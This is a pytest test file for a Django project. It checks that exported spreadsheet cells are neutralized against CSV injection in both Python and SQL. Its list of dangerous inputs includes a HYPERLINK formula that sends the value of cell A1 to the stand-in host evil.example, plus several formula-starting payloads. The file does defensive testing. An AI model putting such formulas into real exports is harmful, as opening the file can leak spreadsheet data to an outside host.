"""Export cells are safe to open (CWE-1236): the Python and the SQL form of the one rule agree."""

import datetime

import pytest
from django.db.models import CharField, Value

from common.exports import neutralize, neutralized
from common.models import JobRun

# OWASP's CSV-injection payloads, and what must pass untouched.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "+45 12 34 56 78",  # not E.164 (a space): a spreadsheet reads +45 as a formula start
    "-",
]
SAFE = ["plain", "", "Jensen-Holm", "12-3", "'=already quoted", "+4512345678", "+12025550123"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_other_text_and_e164_phone_numbers_stay_as_they_are(text):
    assert neutralize(text) == text


def test_numbers_dates_and_none_stay_as_they_are():
    from decimal import Decimal

    for value in (Decimal("-12.50"), -3, 1.5, datetime.date(2026, 1, 1), None):
        assert neutralize(value) is value


@pytest.mark.django_db
@pytest.mark.parametrize("text", DANGEROUS + SAFE)
def test_postgresql_neutralizes_a_text_column_exactly_as_python_does(text):
    # given one row to evaluate the expression over
    JobRun.objects.create(job="probe", business_date=datetime.date(2026, 1, 1))
    # when the database computes the cell
    value = JobRun.objects.annotate(cell=neutralized(Value(text, output_field=CharField()))).values_list(
        "cell", flat=True
    )
    # then it is what the Python writer would write
    assert list(value) == [neutralize(text)]
